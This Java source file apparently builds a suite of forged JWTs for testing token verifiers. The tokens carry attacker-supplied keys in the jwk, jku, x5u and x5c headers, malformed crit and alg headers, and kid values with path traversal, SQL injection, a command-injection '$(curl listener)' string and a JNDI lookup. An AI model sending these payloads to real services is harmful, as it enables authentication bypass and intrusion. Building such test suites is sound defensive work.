package io.phishx.testing.jwt;

import java.nio.charset.StandardCharsets;
import java.security.interfaces.ECPublicKey;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jose4j.json.JsonUtil;
import org.jose4j.jwk.EllipticCurveJsonWebKey;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;

/** Attacks by what the header says: keys and addresses of the attacker, critical things, types. */
final class HeaderAttacks {

  private static final String KID = "RFC 8725 3.10, jwt_tool";

  private HeaderAttacks() {}

  /**
   * All of them.
   *
   * @param listener an address that must never be called
   */
  static List<JwtAttack> of(JwtForge forge, String listener) {
    List<JwtAttack> attacks = new ArrayList<>();
    embeddedKeys(forge, listener, attacks);
    goodSignature(forge, listener, attacks);
    keyIds(forge, listener, attacks);
    types(forge, attacks);
    return attacks;
  }

  private static void embeddedKeys(JwtForge forge, String listener, List<JwtAttack> attacks) {
    EllipticCurveJsonWebKey own =
        new EllipticCurveJsonWebKey((ECPublicKey) forge.attacker().getPublic());
    own.setKeyId(forge.kid());
    Map<String, Object> jwk = own.toParams(OutputControlLevel.PUBLIC_ONLY);
    String certificate =
        Base64.getEncoder().encodeToString(forge.attacker().getPublic().getEncoded());
    Map<String, Object> carried = new HashMap<>();
    carried.put("jwk", jwk);
    carried.put("jku", listener + "/jwks.json");
    carried.put("x5u", listener + "/chain.pem");
    carried.put("x5c", List.of(certificate));
    carried.forEach(
        (name, value) ->
            attacks.add(
                JwtAttack.of(
                    "own key by " + name,
                    name.equals("jwk") ? "CVE-2018-0114" : "RFC 8725 3.10",
                    forge.signedByAttacker(forge.header(name, value)))));
    Map<String, Object> both = forge.header("jku", listener + "/jwks.json");
    both.put("kid", "attacker");
    attacks.add(
        JwtAttack.of("own key by jku and kid", "RFC 8725 3.10", forge.signedByAttacker(both)));
  }

  private static void goodSignature(JwtForge forge, String listener, List<JwtAttack> attacks) {
    Map<String, Object> odd = new HashMap<>();
    odd.put("jku", listener + "/jwks.json");
    odd.put("x5u", listener + "/chain.pem");
    odd.put("x5t#S256", "AAAA");
    odd.put("crit", List.of("exp"));
    odd.put("b64", false);
    odd.put("zip", "DEF");
    odd.put("enc", "A256GCM");
    odd.put("cty", "JWT");
    odd.put("exp", 4102444800L);
    odd.forEach(
        (name, value) ->
            attacks.add(
                JwtAttack.of(
                    "trusted signature with the header " + name,
                    "RFC 7515 4.1",
                    forge.signed(forge.header(name, value), forge.claims()))));
    attacks.add(
        JwtAttack.of(
            "empty crit",
            "RFC 7515 4.1.11",
            forge.signed(forge.header("crit", List.of()), forge.claims())));
    Map<String, Object> unknown = forge.header("crit", List.of("phishx"));
    unknown.put("phishx", "must be understood");
    attacks.add(
        JwtAttack.of("unknown crit", "CVE-2025-59420", forge.signed(unknown, forge.claims())));
    Map<String, Object> unencoded = forge.header("crit", List.of("b64"));
    unencoded.put("b64", false);
    attacks.add(
        JwtAttack.of("unencoded payload", "RFC 7797 6", forge.signed(unencoded, forge.claims())));
  }

  private static void keyIds(JwtForge forge, String listener, List<JwtAttack> attacks) {
    for (String kid :
        List.of(
            "../../../../../../dev/null",
            "/dev/null",
            "' UNION SELECT 'AA' --",
            "x' OR '1'='1",
            "|sleep 5",
            "$(curl " + listener + ")",
            listener + "/key",
            "${jndi:ldap://127.0.0.1:1/a}",
            forge.kid() + "\0",
            " " + forge.kid(),
            "*",
            "")) {
      Map<String, Object> header = forge.header("kid", kid);
      attacks.add(
          JwtAttack.of(
              "kid '" + kid.replace('\0', '0') + "'", KID, forge.signed(header, forge.claims())));
    }
    Map<String, Object> empty = forge.header("kid", "/dev/null");
    empty.put("alg", "HS256");
    attacks.add(
        JwtAttack.of(
            "kid of an empty file as the secret",
            KID,
            forge.authenticated("HmacSHA256", new byte[0], empty)));
    Map<String, Object> chosen = forge.header("kid", "' UNION SELECT 'AA' --");
    chosen.put("alg", "HS256");
    attacks.add(
        JwtAttack.of(
            "kid that selects the secret",
            KID,
            forge.authenticated("HmacSHA256", "AA".getBytes(StandardCharsets.UTF_8), chosen)));
    Map<String, Object> absent = forge.header();
    absent.remove("kid");
    attacks.add(JwtAttack.of("no kid", KID, forge.signed(absent, forge.claims())));
    attacks.add(
        JwtAttack.of("kid as a number", KID, forge.signed(forge.header("kid", 1), forge.claims())));
    attacks.add(
        JwtAttack.of(
            "kid as a list",
            KID,
            forge.signed(forge.header("kid", List.of(forge.kid())), forge.claims())));
    String claims = JsonUtil.toJson(forge.claims());
    String header = JsonUtil.toJson(forge.header());
    attacks.add(
        JwtAttack.of(
            "kid twice",
            "RFC 7515 4",
            forge.signed(header.replace("{", "{\"kid\":\"other\","), claims)));
    attacks.add(
        JwtAttack.of(
            "alg twice",
            "RFC 7515 4",
            forge.signed(header.replace("{", "{\"alg\":\"none\","), claims)));
  }

  private static void types(JwtForge forge, List<JwtAttack> attacks) {
    for (String typ :
        List.of(
            "JWT", "id+jwt", "logout+jwt", "dpop+jwt", "rt+jwt", "secevent+jwt", "at+jwt ", "")) {
      attacks.add(
          JwtAttack.of(
              "typ '" + typ + "'",
              "RFC 8725 3.11, RFC 9068 4",
              forge.signed(forge.header("typ", typ), forge.claims())));
    }
    Map<String, Object> absent = forge.header();
    absent.remove("typ");
    attacks.add(JwtAttack.of("no typ", "RFC 9068 4", forge.signed(absent, forge.claims())));
  }
}
